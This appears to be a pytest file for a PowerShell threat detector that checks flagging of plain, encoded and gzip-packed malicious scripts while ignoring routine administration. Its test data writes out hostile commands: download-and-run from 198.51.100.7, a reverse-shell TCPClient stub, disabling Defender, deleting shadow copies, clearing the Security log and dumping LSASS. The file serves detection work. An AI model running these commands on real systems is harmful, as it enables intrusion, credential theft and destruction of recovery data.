# SPDX-License-Identifier: Apache-2.0
"""PowerShell is graded by what it says, decoded; installers, agents and everyday administration are left alone."""

from __future__ import annotations

import base64
import gzip

import pytest
from memory_events import MemoryEvents

from headwater.detect import registry
from headwater.detect.detectors import powershell_script
from headwater.model.kinds import EventKind, Severity, Stage
from headwater.model.nouns import Finding
from headwater.model.ports import Settings


def run(*texts: str, name: str = "CommandLine", **more: object) -> list[Finding]:
    kind = EventKind.PROCESS_CREATE if name == "CommandLine" else EventKind.LOG_MESSAGE
    rows = [(kind, "2026-03-02 03:00:00", {"user": "CORP\\web", name: t, **more}) for t in texts]
    return list(registry.run(powershell_script, MemoryEvents().say("windows.powershell", "/P.evtx", *rows), Settings()))


def encoded(script: str) -> str:
    return f"powershell.exe -nop -w hidden -enc {base64.b64encode(script.encode('utf-16-le')).decode()}"


@pytest.mark.parametrize(
    ("script", "sign", "stage"),
    [
        ("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "download-run", Stage.EXPLOIT),
        (
            "$c=New-Object System.Net.Sockets.TCPClient('198.51.100.7',443);$s=$c.GetStream();iex $d",
            "reverse-shell",
            Stage.SPREAD,
        ),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "protection-off", Stage.COVER),
        ("Get-WmiObject Win32_ShadowCopy | ForEach-Object {$_.Delete();}", "copies-destroyed", Stage.IMPACT),
        ("Clear-EventLog -LogName Security", "log-clear", Stage.COVER),
        ("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", "credentials", Stage.SPREAD),
    ],
)
def test_script_is_found_as_written_and_behind_its_encoding(script: str, sign: str, stage: Stage) -> None:
    (plain,) = run(script, name="ScriptBlockText")
    assert (sign in str(plain.facts["signs"]), plain.rule.stage) == (True, stage)
    (hidden,) = run(encoded(script))
    assert (hidden.rule.stage, hidden.severity) == (stage, Severity.HIGH)
    assert script[:30] in str(hidden.facts["decoded"])


def test_packed_script_is_unpacked() -> None:
    inner = "function x { $p = [Win32]::VirtualAlloc(0, 4096, 0x3000, 0x40) }"
    packed = base64.b64encode(gzip.compress(inner.encode())).decode()
    (found,) = run(f"&([scriptblock]::create((New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,"
                   f"[Convert]::FromBase64String('{packed}'))),0))).ReadToEnd()))", name="ScriptBlockText")  # fmt: skip
    assert "base64+gzip: function x" in str(found.facts["decoded"])
    assert "memory-load" in str(found.facts["signs"])


def test_parts_of_a_script_block_are_read_together() -> None:
    parts = ["$a = (New-Object Net.WebCli", "ent).DownloadString('http://198.51.100.7/x'); Invoke-Expr", "ession $a"]
    rows = [
        (
            EventKind.LOG_MESSAGE,
            "2026-03-02 03:00:00",
            {"ScriptBlockText": t, "ScriptBlockId": "b1", "MessageNumber": n, "MessageTotal": 3},
        )
        for n, t in reversed(list(enumerate(parts, 1)))
    ]
    found = list(
        registry.run(powershell_script, MemoryEvents().say("windows.powershell", "/P.evtx", *rows), Settings())
    )
    assert [f.facts["signs"] for f in found] == ["download-run"]


def pipeline(
    number: int, sequence: int, payload: str, german: bool = False
) -> tuple[EventKind, str, dict[str, object]]:
    """One 4103 event, its context as Windows PowerShell 5.1 lays it out."""
    said = [
        ("Severity", "Informational"), ("Host Name", "ConsoleHost"), ("Host Version", "5.1.17763.1"),
        ("Host ID", "1f0c3f1e-5b77-4c6f-9df0-6c2a5e0a1b11"), ("Host Application", "C:\\Windows\\System32\\powershell.exe"),
        ("Engine Version", "5.1.17763.1"), ("Laufbereichs-ID" if german else "Runspace ID", "7d0ad9b5-52b2-4b0f-8a53-8a2b5f1f7a02"),
        ("Pipeline-ID" if german else "Pipeline ID", str(number)), ("Command Name", "x"), ("Command Type", "Cmdlet"),
        ("Script Name", ""), ("Command Path", ""), ("Sequenznummer" if german else "Sequence Number", str(sequence)),
        ("User", "CORP\\web"), ("Connected User", ""), ("Shell ID", "Microsoft.PowerShell"),
    ]  # fmt: skip
    context = "".join(f"        {name} = {value}\r\n" for name, value in said)
    own = {"user": "CORP\\web", "event_code": "4103", "Payload": payload, "ContextInfo": context}
    return EventKind.LOG_MESSAGE, "2026-03-02 03:00:00", own


def invoked(command: str, **bound: str) -> str:
    lines = [f'CommandInvocation({command}): "{command}"']
    return "\r\n".join([*lines, *(f'ParameterBinding({command}): name="{n}"; value="{v}"' for n, v in bound.items())])


def modules(*rows: tuple[EventKind, str, dict[str, object]]) -> list[Finding]:
    return list(registry.run(powershell_script, MemoryEvents().say("windows.eventlog", "/P.evtx", *rows), Settings()))


@pytest.mark.parametrize("german", [False, True])
def test_the_events_of_one_pipeline_are_read_together(german: bool) -> None:
    first = invoked("Invoke-WebRequest", Uri="http://198.51.100.7/a.ps1", UseBasicParsing="True")
    later = invoked("Invoke-Expression", Command="$x")
    (found,) = modules(
        pipeline(12, 18, later, german),
        pipeline(12, 16, first, german),
        pipeline(13, 20, invoked("Out-Default"), german),
    )
    assert "download-run" in str(found.facts["signs"])
    assert {c.claims["Payload"] for c in found.spans} == {first, later}


def test_events_of_different_pipelines_are_not_read_as_one() -> None:
    first = invoked("Invoke-WebRequest", Uri="http://198.51.100.7/agent.msi", OutFile="agent.msi")
    assert modules(pipeline(12, 16, first), pipeline(14, 22, invoked("Invoke-Expression", Command="Get-Date"))) == []


def test_parameters_that_a_module_log_binds_count_as_typed() -> None:
    (found,) = modules(pipeline(3, 2, invoked("Set-MpPreference", DisableRealtimeMonitoring="True")))
    assert "protection-off" in str(found.facts["signs"])
    assert modules(pipeline(3, 2, invoked("Get-MpPreference"))) == []


@pytest.mark.parametrize(
    "script",
    [
        "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
        "Get-Service | Where-Object Status -eq 'Running' | Export-Csv C:\\t\\services.csv",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
        "Register-ScheduledTask -TaskName Backup -Action $a -Trigger $t",
        "Invoke-WebRequest https://updates.example.com/agent.msi -OutFile agent.msi",
        "Get-EventLog -LogName System -Newest 50",
        'powershell -Command "Get-MpPreference | Select DisableRealtimeMonitoring"',
        "New-LocalUser svc-backup -Password $p",
    ],
)
def test_everyday_scripts_are_nothing(script: str) -> None:
    assert run(script, name="ScriptBlockText") == []
    assert run(f"powershell.exe -Command {script}") == []


def test_encoded_command_of_an_agent_is_nothing() -> None:
    script = "begin { $path = 'C:\\ProgramData\\agent' } process { Get-ChildItem $path } end { Write-Output 'ok' }"
    body = base64.b64encode(script.encode("utf-16-le")).decode()
    assert run(f"PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand {body}") == []
